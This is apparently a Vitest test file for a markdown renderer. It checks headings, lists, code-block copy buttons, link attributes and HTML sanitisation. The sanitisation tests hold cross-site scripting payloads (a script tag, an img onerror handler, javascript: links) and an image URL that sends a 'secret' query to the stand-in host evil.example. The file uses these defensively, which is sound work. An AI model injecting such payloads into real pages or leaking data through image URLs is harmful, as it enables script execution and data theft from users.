import { describe, expect, it } from "vitest";

import { codeOf, enhanceCodeBlocks, plainText, renderMarkdown } from "../src/markdown";

function rendered(markdown: string): HTMLDivElement {
  const div = document.createElement("div");
  div.innerHTML = renderMarkdown(markdown);
  return div;
}

describe("markdown", () => {
  it("renders headings, emphasis, lists and code", () => {
    const div = rendered("# Title\n\nSome **bold** text:\n\n- one\n- two\n\n```python\nprint('hi')\n```\n");
    expect(div.querySelector("h1")?.textContent).toBe("Title");
    expect(div.querySelector("strong")?.textContent).toBe("bold");
    expect(div.querySelectorAll("li")).toHaveLength(2);
    expect(div.querySelector("pre code.language-python")?.textContent).toBe("print('hi')\n");
  });

  it("removes scripts, event handlers and javascript: links", () => {
    const div = rendered(
      '<script>window.__pwned = true</script>\n\n<img src=x onerror="window.__pwned=1">\n\n' +
        '<a href="javascript:alert(1)" onclick="x()">click</a> [md](javascript:alert(2))\n\n' +
        '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=a></form>',
    );
    const html = div.innerHTML;
    expect(div.querySelector("script, iframe, form, input, img")).toBeNull();
    expect(html).not.toMatch(/onerror|onclick|javascript:|__pwned/);
  });

  it("turns images into links, so answers cannot load remote URLs", () => {
    const div = rendered('![a "chart"](https://evil.example/?q=secret)');
    expect(div.querySelector("img")).toBeNull();
    const link = div.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.example/?q=secret");
    expect(link?.textContent).toBe('a "chart"');
  });

  it("opens links in a new tab without a referrer", () => {
    const link = rendered("[docs](https://example.com)").querySelector("a")!;
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("puts code blocks in a box with a labelled copy button", () => {
    const div = rendered("```python\nprint('hi')\n```\n\n```\nplain\n```\n");
    enhanceCodeBlocks(div);
    enhanceCodeBlocks(div); // idempotent
    const boxes = div.querySelectorAll(".codeblock");
    expect(boxes).toHaveLength(2);
    const buttons = div.querySelectorAll("button.copy");
    expect(buttons).toHaveLength(2);
    expect(buttons[0]!.getAttribute("aria-label")).toBe("Copy python code");
    expect(buttons[1]!.getAttribute("aria-label")).toBe("Copy code");
    expect(codeOf(buttons[0]!)).toBe("print('hi')\n");
    expect(boxes[0]!.querySelector(".codeblock-bar span")?.textContent).toBe("python");
  });

  it("gives plain text for screen-reader announcements", () => {
    expect(plainText("# Hi\n\nSome **bold**<script>x</script>")).toBe("Hi Some bold");
  });
});
